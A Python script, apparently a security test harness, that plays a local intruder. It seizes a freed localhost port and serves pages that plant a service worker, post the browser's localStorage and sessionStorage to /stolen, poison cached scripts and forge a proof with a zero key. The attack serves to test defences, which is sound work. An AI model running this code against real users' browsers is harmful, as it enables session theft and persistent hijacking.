#!/usr/bin/env python3
"""Another user of the host, who takes the page's port as soon as it is free and does with the browser what can be done.

    intruder.py PORT FILE       runs as nobody where it may; each request that it hears is a line of JSON in FILE

Each line of standard input is an order: `give` closes the port and keeps every connection, and is answered with `given`.
"""

import hashlib
import hmac
import json
import os
import socket
import sys
import threading
import time

# What it leaves in the browser: it would answer everything that the origin asks, and read what is claimed.
DOCUMENT = """<!DOCTYPE html><title>Intruder</title><script>
navigator.serviceWorker.register("/worker.js", {scope: "/"}).then(() => navigator.serviceWorker.ready).then(() => document.title = "Planted");
fetch("/stolen", {method: "POST", body: JSON.stringify([{...localStorage}, {...sessionStorage}])});
</script>"""
WORKER = """addEventListener("install", () => skipWaiting()); addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => event.respondWith(new Response("<title>Intruder</title>", {headers: {"Content-Type": "text/html"}})));"""
# A page that leaves no worker, and the secret that it leaves instead of the node's.
BARE = "<!DOCTYPE html><title>Bare</title>"
SECRET = bytes(32)
POISON = "document.title = 'Poisoned';"

heard = open(sys.argv[2], "a", buffering=1)
# Connections that outlive the port.
kept = []


def serve(connection):
    kept.append(connection)
    stream = connection.makefile("rb")
    while line := stream.readline():
        method, target, _ = line.decode("latin-1").split(" ", 2)
        fields, size = [], 0
        while (field := stream.readline().decode("latin-1").strip()):
            fields.append(field)
            if field.lower().startswith("content-length:"):
                size = int(field.split(":")[1])
        body = stream.read(size).decode("utf-8", "replace")
        heard.write(json.dumps({"method": method, "target": target, "fields": fields, "body": body}) + "\n")
        path = target.split("?")[0]
        kind, content = "text/html", DOCUMENT
        if path == "/worker.js":
            kind, content = "text/javascript", WORKER
        elif path.endswith(".js"):
            kind, content = "text/javascript", POISON
        elif path == "/bare":
            content = BARE
        elif path == "/api/v1/web/proof":
            told = f"moot/1/web-proof/{json.loads(body)['nonce']}".encode()
            kind, content = "application/json", json.dumps({"proof": hmac.new(SECRET, told, hashlib.sha256).hexdigest()})
        elif path.startswith("/api/"):
            kind, content = "application/json", json.dumps({"status": "ok", "last_event": 1, "user": "0" * 64})
        head = f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nCache-Control: max-age=31536000, immutable\r\nContent-Length: {len(content)}\r\n\r\n"
        connection.sendall((head + content).encode())


def listen(family, address):
    listener = socket.socket(family)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    while True:
        try:
            listener.bind((address, int(sys.argv[1])))
            listener.listen()
            return listener
        except OSError:
            time.sleep(0.001)


def accept(listener):
    while True:
        try:
            connection, _ = listener.accept()
        except OSError:
            return
        threading.Thread(target=serve, args=(connection,), daemon=True).start()


if os.geteuid() == 0:
    os.setgid(65_534)
    os.setuid(65_534)
print("ready", flush=True)
listeners = [listen(socket.AF_INET, "127.0.0.1")]
threading.Thread(target=accept, args=(listeners[0],), daemon=True).start()
print("taken", flush=True)
for order in sys.stdin:
    if order.strip() == "give":
        for listener in listeners:
            listener.shutdown(socket.SHUT_RDWR)
            listener.close()
        print("given", flush=True)
